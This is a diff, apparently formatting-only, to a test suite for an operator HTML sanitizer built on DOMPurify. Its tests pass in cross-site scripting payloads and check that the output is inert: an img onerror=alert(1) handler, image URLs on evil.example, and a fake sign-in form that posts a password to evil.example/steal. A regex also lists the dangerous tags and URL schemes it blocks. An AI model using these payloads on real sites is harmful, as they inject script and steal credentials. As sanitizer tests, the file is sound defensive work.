@@ -12,7 +12,9 @@ const sanitize = createHtmlSanitizer(DOMPurify);
 /** Nothing in the output can run script or navigate to a script URL. */
 function expectInert(html: string): void {
   const out = sanitize(html);
-  expect(out, html).not.toMatch(/<script|<iframe|<frame|<object|<embed|<form|<input|<button|<textarea|<select|<svg|<math|<style|<base|<meta|<link|<template/i);
+  expect(out, html).not.toMatch(
+    /<script|<iframe|<frame|<object|<embed|<form|<input|<button|<textarea|<select|<svg|<math|<style|<base|<meta|<link|<template/i,
+  );
   expect(out, html).not.toMatch(/\son[a-z]+\s*=/i);
   expect(out, html).not.toMatch(/javascript:|vbscript:|data:/i);
   expect(out, html).not.toMatch(/expression\s*\(|url\s*\(|@import|-moz-binding|behavior\s*:/i);
@@ -69,9 +71,17 @@ describe('operator HTML sanitizer', () => {
   });
 
   it('keeps images only from this server or https', () => {
-    expect(sanitize('<img src="/uploads/banner.png" alt="b">')).toBe('<img src="/uploads/banner.png" alt="b">');
+    expect(sanitize('<img src="/uploads/banner.png" alt="b">')).toBe(
+      '<img src="/uploads/banner.png" alt="b">',
+    );
     expect(sanitize('<img src="https://cdn.example/a.png">')).toBe('<img src="https://cdn.example/a.png">');
-    for (const src of ['http://cdn.example/a.png', '//evil.example/a.png', '/\\evil.example/a.png', 'ftp://x/a.png', 'data:image/png;base64,AAAA']) {
+    for (const src of [
+      'http://cdn.example/a.png',
+      '//evil.example/a.png',
+      '/\\evil.example/a.png',
+      'ftp://x/a.png',
+      'data:image/png;base64,AAAA',
+    ]) {
       expect(sanitize(`<img src="${src}">`), src).toBe('<img>');
     }
     // srcset could name any host.
@@ -94,7 +104,9 @@ describe('operator HTML sanitizer', () => {
     ]) {
       expectInert(html);
     }
-    expect(sanitize('<form action="https://evil.example/steal"><p>Sign in</p><input name="password"></form>')).toBe('<p>Sign in</p>');
+    expect(
+      sanitize('<form action="https://evil.example/steal"><p>Sign in</p><input name="password"></form>'),
+    ).toBe('<p>Sign in</p>');
   });
 
   it('removes SVG and MathML tricks', () => {
@@ -143,12 +155,17 @@ describe('operator HTML sanitizer', () => {
       '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
     );
     expect(sanitize('<a href="/x" target="_top">x</a>')).toBe('<a href="/x">x</a>');
-    expect(sanitize('<a href="mailto:help@example.org">mail</a>')).toBe('<a href="mailto:help@example.org">mail</a>');
+    expect(sanitize('<a href="mailto:help@example.org">mail</a>')).toBe(
+      '<a href="mailto:help@example.org">mail</a>',
+    );
     expect(sanitize('<p data-x="1" id="a">x</p>')).toBe('<p id="a">x</p>');
   });
 
   it('sanitizing twice changes nothing (stored HTML is rendered through the same policy)', () => {
-    for (const html of ['<p style="color: red">x</p><img src="/a.png" onerror=alert(1)>', '<a href="https://e.org" target="_blank">x</a>']) {
+    for (const html of [
+      '<p style="color: red">x</p><img src="/a.png" onerror=alert(1)>',
+      '<a href="https://e.org" target="_blank">x</a>',
+    ]) {
       const once = sanitize(html);
       expect(sanitize(once)).toBe(once);
     }
